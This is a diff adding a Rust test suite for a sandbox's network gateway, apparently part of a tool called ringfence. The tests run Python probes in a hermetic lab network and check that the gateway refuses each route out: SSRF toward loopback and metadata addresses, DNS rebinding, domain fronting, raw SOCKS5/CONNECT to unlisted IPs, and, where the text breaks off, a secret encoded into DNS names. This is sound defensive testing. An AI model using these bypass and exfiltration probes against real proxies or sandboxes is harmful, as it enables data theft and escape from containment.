@@ -1,0 +1,1072 @@
+//! Threat 3, sending data out, through the network gateway: `--allow-host` gives the sandbox an
+//! HTTP proxy and a SOCKS5 proxy on its own loopback, and no other way out. Every test runs
+//! ringfence inside a hermetic test internet (tests/netlab) and checks the far side: the lab's
+//! HTTP, TLS and DNS servers record every connection, request, server name and question, so
+//! "refused" means that no byte and no name reached them. Every refusal has a positive control
+//! in the same test that shows the probe would have got through.
+//!
+//! The probes run as one python script per sandboxed run (many probes per run keeps the file
+//! fast). The script prints `@@name result` lines; [`Run`] collects them with the run's events.
+
+mod common;
+mod netlab;
+
+use common::*;
+use netlab::{lab, Lab, Request, Side};
+use serde_json::Value;
+use std::collections::BTreeMap;
+use std::net::{IpAddr, SocketAddr};
+use std::process::Output;
+
+/// Helpers for the python probes. `sys.argv[1]` is the test CA's PEM file, `sys.argv[2]` the
+/// test's marker.
+const PY_PRELUDE: &str = r#"
+import hashlib, os, socket, ssl, subprocess, sys, threading, time, urllib.error, urllib.request
+CA, M = sys.argv[1], sys.argv[2]
+
+def out(name, *vals):
+    text = ' '.join(str(v) for v in vals).replace('\r', '').replace('\n', ' | ')
+    print('@@' + name, text, flush=True)
+
+def curl(name, *args, env=None):
+    p = subprocess.run(['curl', '-sS', '-m', '20', *args], capture_output=True, env=env)
+    out(name, 'rc=%d' % p.returncode, (p.stdout + p.stderr).decode(errors='replace'))
+
+def fetch(name, url):
+    """urllib, which finds the proxy in the environment."""
+    ctx = ssl.create_default_context(cafile=CA)
+    try:
+        with urllib.request.urlopen(url, timeout=10, context=ctx) as r:
+            out(name, r.status, r.read().decode())
+    except urllib.error.HTTPError as e:
+        out(name, e.code, *('%s: %s' % kv for kv in e.headers.items()), e.read().decode())
+    except Exception as e:
+        out(name, 'ERR', repr(e))
+
+def recv_until(s, done):
+    """Reads until done(data), the peer closes, or an error."""
+    data = b''
+    while not done(data):
+        try:
+            chunk = s.recv(65536)
+        except OSError:
+            break
+        if not chunk:
+            break
+        data += chunk
+    return data
+
+def recv_head(s):
+    return recv_until(s, lambda data: b'\r\n\r\n' in data)
+
+def recv_all(s):
+    return recv_until(s, lambda data: False)
+
+def status(head):
+    try:
+        return int(head.split(b' ', 2)[1])
+    except Exception:
+        return None
+
+def proxy(port=3128, timeout=10):
+    return socket.create_connection(('127.0.0.1', port), timeout=timeout)
+
+def connect(target):
+    """CONNECT through the HTTP proxy: the socket and the status."""
+    s = proxy()
+    s.sendall(b'CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n' % (target.encode(), target.encode()))
+    return s, status(recv_head(s))
+
+def recv_exact(s, n):
+    data = b''
+    while len(data) < n:
+        chunk = s.recv(n - len(data))
+        if not chunk:
+            raise EOFError('closed after %d bytes' % len(data))
+        data += chunk
+    return data
+
+def socks(host, port, cmd=1):
+    """A SOCKS5 request: the socket and the reply code (None when the gateway just closed)."""
+    s = proxy(1080)
+    try:
+        s.sendall(b'\x05\x01\x00')
+        if recv_exact(s, 2) != b'\x05\x00':
+            return s, None
+        try:
+            addr = b'\x01' + socket.inet_pton(socket.AF_INET, host)
+        except OSError:
+            try:
+                addr = b'\x04' + socket.inet_pton(socket.AF_INET6, host)
+            except OSError:
+                addr = b'\x03' + bytes([len(host)]) + host.encode()
+        s.sendall(b'\x05' + bytes([cmd]) + b'\x00' + addr + port.to_bytes(2, 'big'))
+        rep = recv_exact(s, 4)
+        if rep[1] == 0:
+            n = {1: 4, 4: 16}.get(rep[3]) or recv_exact(s, 1)[0]
+            recv_exact(s, n + 2)
+        return s, rep[1]
+    except (EOFError, OSError):
+        return s, None
+
+def https_get(s, sni, path, host=None):
+    """TLS with server name `sni` (None: no SNI, no name check) over a tunnel, then GET path."""
+    ctx = ssl.create_default_context(cafile=CA)
+    if sni is None:
+        ctx.check_hostname = False
+    data = b''
+    try:
+        t = ctx.wrap_socket(s, server_hostname=sni)
+        req = 'GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' % (path, host or sni)
+        t.sendall(req.encode())
+        while True:
+            chunk = t.recv(65536)
+            if not chunk:
+                break
+            data += chunk
+        return data.decode(errors='replace')
+    except Exception as e:
+        return (data.decode(errors='replace') + ' ERR ' + repr(e)).strip()
+"#;
+
+/// One sandboxed run of a python probe script: its output, `@@name result` lines and events.
+struct Run {
+    who: Who,
+    out: Output,
+    results: BTreeMap<String, String>,
+    events: Vec<Value>,
+}
+
+impl Run {
+    /// `ringfence run --events PATH ARGS -- python3 -c PRELUDE+CODE CA MARKER` in the lab.
+    fn sandboxed(lab: &Lab, env: &Env, args: &[&str], code: &str, m: &str) -> Run {
+        Run::sandboxed_argv(lab, env, args, code, &[m])
+    }
+
+    /// `ringfence run --events PATH ARGS -- python3 -c PRELUDE+CODE CA ARGV...` in the lab
+    /// (`ARGV` starts with the marker).
+    fn sandboxed_argv(lab: &Lab, env: &Env, args: &[&str], code: &str, argv: &[&str]) -> Run {
+        let events = env.root.join(format!("{}.jsonl", marker("events")));
+        let mut all = vec!["--events", path_str(&events)];
+        all.extend(args);
+        let code = format!("{PY_PRELUDE}\n{code}");
+        let mut script_argv = vec![path_str(&lab.ca_pem)];
+        script_argv.extend(argv);
+        let out = lab.run_py(env, &all, &code, &script_argv);
+        Run::new(env.who, out, Some(&events))
+    }
+
+    /// The same probe script on H without ringfence (the control), as the same identity.
+    fn unsandboxed(lab: &Lab, env: &Env, code: &str, m: &str) -> Run {
+        let code = format!("{PY_PRELUDE}\n{code}");
+        let out = lab.host_py(env, &code, &[path_str(&lab.ca_pem), m]);
+        Run::new(env.who, out, None)
+    }
+
+    fn new(who: Who, out: Output, events: Option<&std::path::Path>) -> Run {
+        let results = stdout(&out)
+            .lines()
+            .filter_map(|l| l.strip_prefix("@@"))
+            .map(|l| l.split_once(' ').map_or((l.to_string(), String::new()), |(k, v)| (k.into(), v.into())))
+            .collect();
+        let events = events
+            .and_then(|p| std::fs::read_to_string(p).ok())
+            .unwrap_or_default()
+            .lines()
+            .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("bad event line {l:?}: {e}")))
+            .collect();
+        let run = Run { who, out, results, events };
+        if std::env::var_os("RINGFENCE_TEST_VERBOSE").is_some() {
+            eprintln!("{}", run.dump());
+        }
+        run
+    }
+
+    /// Everything about the run, for assertion messages.
+    fn dump(&self) -> String {
+        // run.start and proc.exec repeat the whole probe script.
+        let events: Vec<String> = self
+            .events
+            .iter()
+            .filter(|e| e["type"] != "run.start" && e["type"] != "proc.exec")
+            .map(Value::to_string)
+            .collect();
+        format!(
+            "{:?}, exit {:?}\n--- stdout\n{}\n--- stderr\n{}\n--- events\n{}",
+            self.who,
+            self.out.status.code(),
+            stdout(&self.out),
+            stderr(&self.out),
+            events.join("\n")
+        )
+    }
+
+    /// The result line `name`; panics when the script did not get that far.
+    #[track_caller]
+    fn get(&self, name: &str) -> &str {
+        self.results.get(name).unwrap_or_else(|| panic!("no result {name:?}:\n{}", self.dump()))
+    }
+
+    #[track_caller]
+    fn check(&self, cond: bool, what: &str) {
+        assert!(cond, "{what}\n{}", self.dump());
+    }
+
+    /// Result `name` contains every one of `parts`.
+    #[track_caller]
+    fn expect(&self, name: &str, parts: &[&str]) {
+        let got = self.get(name);
+        for p in parts {
+            self.check(got.contains(p), &format!("result {name}: {got:?} lacks {p:?}"));
+        }
+    }
+
+    /// Result `name` contains none of `parts`.
+    #[track_caller]
+    fn expect_not(&self, name: &str, parts: &[&str]) {
+        let got = self.get(name);
+        for p in parts {
+            self.check(!got.contains(p), &format!("result {name}: {got:?} contains {p:?}"));
+        }
+    }
+
+    /// Events of `kind` whose fields equal every `(field, value)` pair (numbers compare by
+    /// their text).
+    fn events_with(&self, kind: &str, fields: &[(&str, &str)]) -> Vec<&Value> {
+        self.events
+            .iter()
+            .filter(|e| e["type"] == kind)
+            .filter(|e| {
+                fields.iter().all(|(k, v)| match &e[*k] {
+                    Value::String(s) => s == v,
+                    other => v.parse::<Value>().is_ok_and(|x| x == *other),
+                })
+            })
+            .collect()
+    }
+
+    /// The first such event; panics when there is none.
+    #[track_caller]
+    fn event(&self, kind: &str, fields: &[(&str, &str)]) -> &Value {
+        match self.events_with(kind, fields).first() {
+            Some(e) => e,
+            None => panic!("no {kind} event with {fields:?}\n{}", self.dump()),
+        }
+    }
+
+    /// A `net.deny` for `host` with `reason`.
+    #[track_caller]
+    fn denied(&self, host: &str, reason: &str) -> &Value {
+        self.event("net.deny", &[("host", host), ("reason", reason)])
+    }
+
+    /// Nothing of `name` reached the lab: no HTTP request, no ClientHello, no DNS question.
+    #[track_caller]
+    fn check_unreached(&self, lab: &Lab, name: &str) {
+        self.check(lab.requests_with(name).is_empty(), &format!("the server of {name} saw a request"));
+        self.check(lab.hellos_with(name).is_empty(), &format!("the TLS server saw the name {name}"));
+        self.check(lab.queries_with(name).is_empty(), &format!("the resolver saw the name {name}"));
+    }
+
+    /// The lab's servers saw exactly one HTTP request with `marker`; returns it.
+    #[track_caller]
+    fn one_request(&self, lab: &Lab, marker: &str) -> Request {
+        let mut seen = lab.requests_with(marker);
+        self.check(seen.len() == 1, &format!("{marker}: the server saw {seen:?}"));
+        seen.remove(0)
+    }
+
+    /// The connections accepted in I at each of `ips` are still `before`.
+    #[track_caller]
+    fn check_no_new_connections(&self, lab: &Lab, ips: &[IpAddr], before: &[usize]) {
+        for (a, b) in ips.iter().zip(before) {
+            self.check(lab.connections_to(Side::Internet, *a) == *b, &format!("{a} got a connection"));
+        }
+    }
+}
+
+/// The status line and headers of a `curl -i` result: it was refused by the gateway with 403
+/// and an `X-Ringfence-Deny` header.
+#[track_caller]
+fn assert_403(run: &Run, name: &str) {
+    let got = run.get(name).to_ascii_lowercase();
+    run.check(got.contains("http/1.1 403"), &format!("{name}: not a 403: {got}"));
+    run.check(got.contains("x-ringfence-deny:"), &format!("{name}: no X-Ringfence-Deny header: {got}"));
+}
+
+/// A marker for names and paths that no other probe's marker contains (it ends in a letter,
+/// so a marker is never the prefix of a later one).
+fn unique(tag: &str) -> String {
+    format!("{}q", marker(tag))
+}
+
+/// Runs `test` once for each identity with the lab, a fresh [`Env`] for that identity and a
+/// fresh [`unique`] marker made from `tag`. Without the lab (not root) it runs nothing.
+fn each_identity(tag: &str, mut test: impl FnMut(&'static Lab, &Env, &str)) {
+    let Some(lab) = lab() else { return };
+    for who in identities() {
+        let env = Env::new(who);
+        test(lab, &env, &unique(tag));
+    }
+}
+
+/// The connections accepted so far in I at each of `ips`.
+fn connection_counts(lab: &Lab, ips: &[IpAddr]) -> Vec<usize> {
+    ips.iter().map(|a| lab.connections_to(Side::Internet, *a)).collect()
+}
+
+/// Control: a plain request from H (without ringfence) to `addr` gets an answer containing
+/// `expect`.
+#[track_caller]
+fn assert_answers_from_host(lab: &Lab, who: Who, addr: &str, m: &str, expect: &str) {
+    let body = lab.probe(Side::Host, sock(addr), m).unwrap();
+    assert!(body.contains(expect), "{who:?}: control probe of {addr} from H: {body}");
+}
+
+fn ip(s: &str) -> IpAddr {
+    s.parse().unwrap()
+}
+
+fn sock(s: &str) -> SocketAddr {
+    s.parse().unwrap()
+}
+
+// ---------------------------------------------------------------------------------------------
+
+/// The lab's self-check, without ringfence: in H the system resolver answers from the lab
+/// resolver, the HTTP and TLS servers answer (with the test CA), and H has no way out.
+#[test]
+fn lab_is_hermetic_and_serving() {
+    each_identity("lab", |lab, env, m| {
+        let who = env.who;
+        let ca = lab.ca_pem.display();
+        let script = format!(
+            "getent hosts x{m}.wild.test; getent hosts nope{m}.test || echo NXDOMAIN
+             curl -sS -m 5 http://allowed.test/hello?m={m}-http; echo
+             curl -sS -m 5 --cacert {ca} https://y{m}.wild.test/hello?m={m}-https; echo
+             ip route show default | grep . && echo HAS-DEFAULT-ROUTE; true"
+        );
+        let out = lab.host_sh(env, &script);
+        let text = both(&out);
+        assert!(text.contains(&format!("192.0.2.10      x{m}.wild.test")), "{who:?}: getent:\n{text}");
+        assert!(text.contains("NXDOMAIN"), "{who:?}:\n{text}");
+        let http = format!("hello from 192.0.2.10 host=allowed.test tls=false path=/hello?m={m}-http");
+        assert!(text.contains(&http), "{who:?}:\n{text}");
+        assert!(text.contains(&format!("hello from 192.0.2.10 host=y{m}.wild.test tls=true")), "{who:?}:\n{text}");
+        assert!(!text.contains("HAS-DEFAULT-ROUTE"), "{who:?}: H has a default route:\n{text}");
+        assert_eq!(lab.requests_with(m).len(), 2, "{who:?}:\n{text}");
+        assert_eq!(lab.hellos_with(&format!("y{m}")).len(), 1, "{who:?}:\n{text}");
+        assert!(!lab.queries_with(&format!("x{m}")).is_empty(), "{who:?}:\n{text}");
+    });
+}
+
+const PY_ALLOWED_AND_DENIED: &str = r#"
+curl('curl-plain', '-i', 'http://allowed.test/hello?m=%s-curl-plain' % M)
+curl('curl-tls', '--cacert', CA, 'https://allowed.test/hello?m=%s-curl-tls' % M)
+fetch('py-plain', 'http://allowed.test/hello?m=%s-py-plain' % M)
+fetch('py-tls', 'https://allowed.test/hello?m=%s-py-tls' % M)
+curl('denied-http', '-i', 'http://d%s.wild.test/hello?m=%s-denied' % (M, M))
+curl('denied-https', '--cacert', CA, 'https://d%s.wild.test/hello?m=%s-denied' % (M, M))
+fetch('py-denied-http', 'http://d%s.wild.test/hello?m=%s-denied' % (M, M))
+fetch('py-denied-https', 'https://d%s.wild.test/hello?m=%s-denied' % (M, M))
+"#;
+
+/// An allowed host works over HTTP and HTTPS, with curl and with python's urllib through the
+/// proxy variables; the server saw each request and the events record the connection with its
+/// bytes. A host that isn't allowed gets a 403 with `X-Ringfence-Deny` and an explanation, and
+/// neither its server nor the resolver saw anything; allowing it makes the same probe work.
+#[test]
+fn allowed_host_works_and_other_hosts_get_403() {
+    each_identity("allow", |lab, env, m| {
+        let denied = format!("d{m}.wild.test");
+        let run = Run::sandboxed(lab, env, &["--allow-host", "allowed.test"], PY_ALLOWED_AND_DENIED, m);
+        assert_code(&run.out, 0);
+        for (name, tls) in [("curl-plain", false), ("curl-tls", true), ("py-plain", false), ("py-tls", true)] {
+            run.expect(name, &[&format!("hello from 192.0.2.10 host=allowed.test tls={tls}")]);
+            let seen = run.one_request(lab, &format!("{m}-{name}"));
+            run.check(seen.tls == tls && seen.local.ip() == ip("192.0.2.10"), &format!("{name}: {seen:?}"));
+        }
+        run.expect("curl-plain", &["200"]);
+
+        // The refusals, and nothing of them reached the lab.
+        assert_403(&run, "denied-http");
+        run.expect("denied-http", &[&denied, "--allow-host"]);
+        run.expect("denied-https", &["403"]);
+        run.check(!run.get("denied-https").contains("rc=0"), "denied-https: curl succeeded");
+        run.expect("py-denied-http", &["403"]);
+        run.expect("py-denied-https", &["ERR", "403"]);
+        run.check_unreached(lab, &denied);
+
+        // The events: the lookup, both kinds of connection with their bytes, and the refusals.
+        let dns = run.event("net.dns", &[("name", "allowed.test"), ("resolver", "system")]);
+        run.check(dns["answers"].as_array().is_some_and(|a| a.contains(&"192.0.2.10".into())), "net.dns answers");
+        run.check(dns["error"].is_null() && dns["duration_ms"].is_u64(), "net.dns fields");
+        for (proto, port) in [("http", "80"), ("http-connect", "443")] {
+            let addr = format!("192.0.2.10:{port}");
+            let fields = [("proto", proto), ("host", "allowed.test"), ("port", port), ("addr", &addr)];
+            let ev = run.event("net.connect", &fields);
+            run.check(ev["rule"] == "allowed.test", "net.connect rule");
+            run.check(ev["bytes_up"].as_u64() > Some(0) && ev["bytes_down"].as_u64() > Some(0), "net.connect bytes");
+            run.check(ev["duration_ms"].is_u64(), "net.connect duration");
+        }
+        let deny = run.event("net.deny", &[("host", &denied), ("port", "80"), ("reason", "not-allowed")]);
+        run.check(deny["proto"] == "http" && deny["detail"].is_string(), "net.deny fields");
+        run.event("net.deny", &[("host", &denied), ("port", "443"), ("proto", "http-connect")]);
+        run.check(run.events_with("net.dns", &[("name", &denied)]).is_empty(), "the denied name was looked up");
+
+        // Control: allowed, the same name works.
+        let code = format!("curl('now-allowed', 'http://{denied}/hello?m={m}-control')");
+        let control = Run::sandboxed(lab, env, &["--allow-host", "*.wild.test"], &code, m);
+        control.expect("now-allowed", &[&format!("hello from 192.0.2.10 host={denied}")]);
+
+        // The refusals were also noted on stderr, one line each.
+        let err = stderr(&run.out);
+        let notices: Vec<&str> = err.lines().filter(|l| l.contains(&denied)).collect();
+        run.check(!notices.is_empty(), "no notice of the refusal on stderr");
+        for line in notices {
+            run.check(
+                line.starts_with("ringfence: network: "),
+                &format!("the notice {line:?} is not `ringfence: network: ...`"),
+            );
+        }
+    });
+}
+
+const PY_SOCKS: &str = r#"
+curl('socks-hostname', '--socks5-hostname', '127.0.0.1:1080', '--cacert', CA,
+     'https://allowed.test/hello?m=%s-socks-hostname' % M)
+env = {k: v for k, v in os.environ.items() if k.lower() not in ('http_proxy', 'https_proxy')}
+out('all-proxy-var', env.get('ALL_PROXY'))
+curl('all-proxy', '--cacert', CA, 'https://allowed.test/hello?m=%s-all-proxy' % M, env=env)
+s, code = socks('d%s.wild.test' % M, 443)
+out('denied-name', code)
+s, code = socks('192.0.2.11', 443)
+out('unlisted-ip', code)
+s, code = socks('192.0.2.11', 443)
+out('unlisted-ip-data', code, https_get(s, None, '/hello?m=%s-unlisted' % M, host='192.0.2.11'))
+s, code = socks('192.0.2.10', 443)
+out('listed-ip', code, https_get(s, '192.0.2.10', '/hello?m=%s-listed' % M))
+s, code = connect('192.0.2.11:443')
+out('connect-unlisted-ip', code)
+s, code = connect('192.0.2.10:443')
+out('connect-listed-ip', code, https_get(s, '192.0.2.10', '/hello?m=%s-connect-listed' % M))
+s, code = socks('2001:db8::11', 443)
+out('listed-ip6', code, https_get(s, '2001:db8::11', '/hello?m=%s-listed6' % M))
+s, code = connect('[2001:db8::11]:443')
+out('connect-listed-ip6', code, https_get(s, '2001:db8::11', '/hello?m=%s-connect-listed6' % M))
+s, code = socks('2001:db8::11', 80)
+out('unlisted-port-ip6', code)
+"#;
+
+/// SOCKS5 with a host name works for an allowed host (curl's --socks5-hostname, and through
+/// ALL_PROXY alone); a name that isn't allowed gets reply 2 ("not allowed by ruleset"); an IP
+/// literal (IPv4 or IPv6, over SOCKS5 and CONNECT) works only when it is listed, and only on
+/// the listed port, and an unlisted one reaches nothing.
+#[test]
+fn socks5_follows_the_same_rules() {
+    each_identity("socks", |lab, env, m| {
+        let unlisted = ip("192.0.2.11");
+        let before = lab.connections_to(Side::Internet, unlisted);
+        let args = ["--allow-host", "allowed.test", "--allow-host", "192.0.2.10", "--allow-host", "[2001:db8::11]:443"];
+        let run = Run::sandboxed(lab, env, &args, PY_SOCKS, m);
+        assert_code(&run.out, 0);
+        run.expect("socks-hostname", &["rc=0", "hello from 192.0.2.10 host=allowed.test tls=true"]);
+        run.expect("all-proxy-var", &["socks5h://127.0.0.1:1080"]);
+        run.expect("all-proxy", &["rc=0", "hello from 192.0.2.10 host=allowed.test tls=true"]);
+        run.check(lab.requests_with(&format!("{m}-all-proxy")).len() == 1, "ALL_PROXY request not seen");
+        run.expect("denied-name", &["2"]);
+        run.expect("unlisted-ip", &["2"]);
+        run.expect_not("unlisted-ip-data", &["hello from"]);
+        run.expect("listed-ip", &["0 ", "hello from 192.0.2.10 host=192.0.2.10 tls=true"]);
+        run.expect("connect-unlisted-ip", &["403"]);
+        run.expect("connect-listed-ip", &["200 ", "hello from 192.0.2.10 host=192.0.2.10 tls=true"]);
+        run.expect("listed-ip6", &["0 ", "hello from 2001:db8::11 host=2001:db8::11 tls=true"]);
+        run.expect("connect-listed-ip6", &["200 ", "hello from 2001:db8::11 host=2001:db8::11 tls=true"]);
+        run.expect("unlisted-port-ip6", &["2"]);
+
+        run.check(lab.connections_to(Side::Internet, unlisted) == before, "the unlisted IP got a connection");
+        run.check(lab.queries_with(&format!("d{m}")).is_empty(), "the resolver saw the denied name");
+        run.event("net.connect", &[("proto", "socks5"), ("host", "allowed.test"), ("port", "443")]);
+        run.event("net.connect", &[("proto", "socks5"), ("host", "192.0.2.10"), ("addr", "192.0.2.10:443")]);
+        run.event("net.deny", &[("proto", "socks5"), ("host", &format!("d{m}.wild.test")), ("reason", "not-allowed")]);
+        run.event("net.deny", &[("proto", "socks5"), ("host", "192.0.2.11"), ("reason", "not-allowed")]);
+
+        // Control: the unlisted address answers from H.
+        assert_answers_from_host(lab, env.who, "192.0.2.11:80", m, "hello from 192.0.2.11");
+    });
+}
+
+const PY_DENY: &str = r#"
+curl('ok', 'http://ok%s.wild.test/hello?m=%s-ok' % (M, M))
+curl('bad-http', '-i', 'http://bad%s.wild.test/hello?m=%s-bad' % (M, M))
+curl('bad-https', '--cacert', CA, 'https://bad%s.wild.test/hello?m=%s-bad' % (M, M))
+s, code = socks('bad%s.wild.test' % M, 443)
+out('bad-socks', code)
+curl('apex', '-i', 'http://wild.test/hello?m=%s-apex' % M)
+"#;
+
+/// A deny rule beats an allow rule that also matches (over HTTP, CONNECT and SOCKS5), and
+/// `*.suffix` matches subdomains only.
+#[test]
+fn deny_beats_allow() {
+    each_identity("deny", |lab, env, m| {
+        let bad = format!("bad{m}.wild.test");
+        let run = Run::sandboxed(lab, env, &["--allow-host", "*.wild.test", "--deny-host", &bad], PY_DENY, m);
+        assert_code(&run.out, 0);
+        run.expect("ok", &["rc=0", &format!("hello from 192.0.2.10 host=ok{m}.wild.test")]);
+        assert_403(&run, "bad-http");
+        run.expect("bad-https", &["403"]);
+        run.expect("bad-socks", &["2"]);
+        assert_403(&run, "apex");
+        run.check_unreached(lab, &bad);
+        let ev = run.denied(&bad, "denied");
+        run.check(ev["rule"] == bad.as_str(), "net.deny names the deny rule");
+        run.event("net.deny", &[("proto", "socks5"), ("host", &bad), ("reason", "denied")]);
+        run.denied("wild.test", "not-allowed");
+    });
+}
+
+/// Names in the lab that resolve to addresses the guard must refuse.
+const GUARDED: &[&str] =
+    &["loop.test", "loop6.test", "self.test", "meta.test", "meta6.test", "lan.test", "mapped.test", "nat64.test"];
+
+const PY_GUARD: &str = r#"
+for name in sys.argv[3:]:
+    curl(name, '-i', 'http://%s/hello?m=%s-%s' % (name, M, name))
+    curl(name + '-tls', '--cacert', CA, 'https://%s/hello?m=%s-%s' % (name, M, name))
+    s, code = socks(name, 80)
+    out(name + '-socks', code)
+curl('mixed', '-i', 'http://mixed.test/hello?m=%s-mixed' % M)
+for i in range(4):
+    curl('rebind-%d' % i, '-i', 'http://r%s.rebind.test/hello?m=%s-rebind' % (M, M))
+curl('control', 'http://allowed.test/hello?m=%s-control' % M)
+"#;
+
+/// The address guard: allowed names that resolve to H's loopback (v4, v6, IPv4-mapped),
+/// H's own address, the metadata address (v4 and v6), a private address or a NAT64 form of
+/// loopback are refused over HTTP, CONNECT and SOCKS5, and the listeners at those addresses
+/// saw no connection. A name that answers both a good and a loopback address, and one that
+/// rebinds to loopback between lookups, never reach loopback. Controls: the listeners answer
+/// from H, and `--allow-private 10.0.0.0/8` makes the private one work.
+#[test]
+fn address_guard_refuses_internal_addresses() {
+    let internal_i = [ip("169.254.169.254"), ip("10.0.0.1"), ip("fd00:ec2::254")];
+    each_identity("guard", |lab, env, m| {
+        let host_before = lab.connections_on(Side::Host);
+        let i_before = connection_counts(lab, &internal_i);
+        let mut args =
+            vec!["--allow-host", "allowed.test", "--allow-host", "mixed.test", "--allow-host", "*.rebind.test"];
+        // The lab's server gives rebinding names a TTL of 0, which only a DNS server (not
+        // getaddrinfo) reports: every lookup then sees the next answer.
+        args.extend(["--resolver", "192.0.2.53"]);
+        for name in GUARDED {
+            args.extend(["--allow-host", name]);
+        }
+        let mut argv = vec![m];
+        argv.extend(GUARDED);
+        let run = Run::sandboxed_argv(lab, env, &args, PY_GUARD, &argv);
+        assert_code(&run.out, 0);
+
+        run.expect("control", &["rc=0", "hello from 192.0.2.10"]);
+        for name in GUARDED {
+            assert_403(&run, name);
+            run.expect(&format!("{name}-tls"), &["403"]);
+            run.expect(&format!("{name}-socks"), &["2"]);
+            let ev = run.denied(name, "address-guard");
+            run.check(ev["addr"].is_string(), &format!("{name}: net.deny without the refused address"));
+        }
+        let leaks =
+            ["hello from 127.", "hello from ::1", "hello from 198.51.100.1", "hello from 169.254", "hello from 10."];
+        for name in run.results.keys() {
+            run.expect_not(name, &leaks);
+            run.expect_not(name, &["hello from fd00"]);
+        }
+        let rebinds: Vec<String> = (0..4).map(|i| run.get(&format!("rebind-{i}")).to_string()).collect();
+        for (i, got) in rebinds.iter().enumerate() {
+            run.check(got.contains("hello from 192.0.2.10") || got.contains(" 403 "), &format!("rebind-{i}: {got}"));
+        }
+        // Both answers were seen: the name really rebound to loopback between lookups.
+        run.check(
+            rebinds.iter().any(|g| g.contains(" 403 ")) && rebinds.iter().any(|g| g.contains("hello from 192.0.2.10")),
+            &format!("the rebinding name did not alternate: {rebinds:?}"),
+        );
+        run.check(
+            lab.connections_on(Side::Host) == host_before,
+            "a listener on H (loopback or own address) got a connection",
+        );
+        run.check_no_new_connections(lab, &internal_i, &i_before);
+
+        // Controls: every refused listener (on H: loopback and its own address; in I: the
+        // metadata and private addresses) answers a direct probe.
+        for addr in
+            ["127.0.0.1:80", "[::1]:80", "198.51.100.1:80", "169.254.169.254:80", "10.0.0.1:80", "[fd00:ec2::254]:80"]
+        {
+            assert_answers_from_host(lab, env.who, addr, m, "hello from");
+        }
+        let code = format!("curl('lan', 'http://lan.test/hello?m={m}-lan')");
+        let args = ["--allow-host", "lan.test", "--allow-private", "10.0.0.0/8"];
+        let private = Run::sandboxed(lab, env, &args, &code, m);
+        private.expect("lan", &["rc=0", "hello from 10.0.0.1 host=lan.test"]);
+        private.event("net.connect", &[("host", "lan.test"), ("addr", "10.0.0.1:80")]);
+    });
+}
+
+const PY_FRONTING: &str = r#"
+s, code = connect('allowed.test:443')
+out('sni-allowed-other', code, https_get(s, 'f%s.wild.test' % M, '/hello?m=%s-front' % M))
+s, code = connect('allowed.test:443')
+out('sni-not-allowed', code, https_get(s, 'h%s.wild.test' % M, '/hello?m=%s-front' % M))
+s, code = connect('g%s.wild.test:443' % M)
+out('sni-same', code, https_get(s, 'g%s.wild.test' % M, '/hello?m=%s-same' % M))
+s, code = connect('G%s.Wild.Test:443' % M.upper())
+out('sni-case', code, https_get(s, 'g%s.wild.test' % M, '/hello?m=%s-case' % M))
+s, code = connect('allowed.test:443')
+s.sendall(b'GET /hello?m=%s-plain HTTP/1.1\r\nHost: allowed.test\r\n\r\n' % M.encode())
+out('plaintext', code, repr(recv_all(s)))
+s, code = connect('allowed.test:443')
+out('no-sni', code, https_get(s, None, '/hello?m=%s-nosni' % M, host='allowed.test'))
+s, code = socks('allowed.test', 443)
+out('socks-sni-other', code, https_get(s, 's%s.wild.test' % M, '/hello?m=%s-front' % M))
+s, code = socks('allowed.test', 443)
+s.sendall(b'GET /hello?m=%s-socksplain HTTP/1.1\r\nHost: allowed.test\r\n\r\n' % M.encode())
+out('socks-plaintext', code, repr(recv_all(s)))
+for name, host in (('host-other', 'other.test'), ('host-port', 'allowed.test:8080'), ('host-same', 'allowed.test')):
+    s = proxy()
+    s.sendall(b'GET http://allowed.test/hello?m=%s-%s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n'
+              % (M.encode(), name.encode(), host.encode()))
+    out(name, repr(recv_all(s)))
+"#;
+
+/// Domain fronting: after CONNECT to an allowed host, a ClientHello naming another host
+/// (allowed or not), none, or plaintext instead of TLS is refused and nothing reaches the TLS
+/// server; the same over SOCKS5. An absolute-form request whose Host header names another host
+/// (or port) is refused. Controls: a matching name (in any case) and a matching Host work.
+#[test]
+fn fronting_is_refused() {
+    each_identity("front", |lab, env, m| {
+        let (f, g, h, s) = (format!("f{m}"), format!("g{m}"), format!("h{m}"), format!("s{m}"));
+        let allow = [format!("{f}.wild.test"), format!("{g}.wild.test"), "allowed.test".into()];
+        let args: Vec<&str> = allow.iter().flat_map(|a| ["--allow-host", a.as_str()]).collect();
+        let run = Run::sandboxed(lab, env, &args, PY_FRONTING, m);
+        assert_code(&run.out, 0);
+
+        run.expect("sni-same", &["200 ", &format!("hello from 192.0.2.10 host={g}.wild.test tls=true")]);
+        run.expect("sni-case", &["200 ", "hello from 192.0.2.10", "tls=true"]);
+        run.check(!lab.hellos_with(&g).is_empty(), "control: the TLS server did not see the matching name");
+        run.expect("host-same", &["200 OK", "hello from 192.0.2.10 host=allowed.test"]);
+
+        for name in ["sni-allowed-other", "sni-not-allowed", "no-sni", "socks-sni-other"] {
+            run.expect(name, &["ERR"]);
+            run.expect_not(name, &["hello from"]);
+        }
+        run.expect("plaintext", &["200 b''"]);
+        run.expect("socks-plaintext", &["0 b''"]);
+        for name in ["host-other", "host-port"] {
+            run.expect(name, &["HTTP/1.1 403"]);
+            run.expect_not(name, &["hello from"]);
+        }
+        for fragment in [&f, &h, &s] {
+            run.check(lab.hellos_with(fragment).is_empty(), &format!("the TLS server saw the SNI {fragment}"));
+        }
+        for suffix in ["front", "plain", "socksplain", "nosni", "host-other", "host-port"] {
+            let seen = lab.requests_with(&format!("{m}-{suffix}"));
+            run.check(seen.is_empty(), &format!("{suffix}: the server saw {seen:?}"));
+        }
+        let reasons = [("http-connect", "sni-mismatch"), ("socks5", "sni-mismatch"), ("http-connect", "not-tls")];
+        for (proto, reason) in reasons {
+            run.event("net.deny", &[("proto", proto), ("host", "allowed.test"), ("reason", reason)]);
+        }
+        run.event("net.deny", &[("proto", "socks5"), ("reason", "not-tls")]);
+        run.denied("allowed.test", "no-sni");
+        run.event("net.deny", &[("proto", "http"), ("reason", "host-mismatch")]);
+    });
+}
+
+const PY_DNS: &str = r#"
+secret = 'c2VjcmV0'
+N = sys.argv[3]
+curl('proxy', '-i', 'http://%s.p%s.wild.test/' % (secret, N))
+s, code = connect('%s.c%s.wild.test:443' % (secret, N))
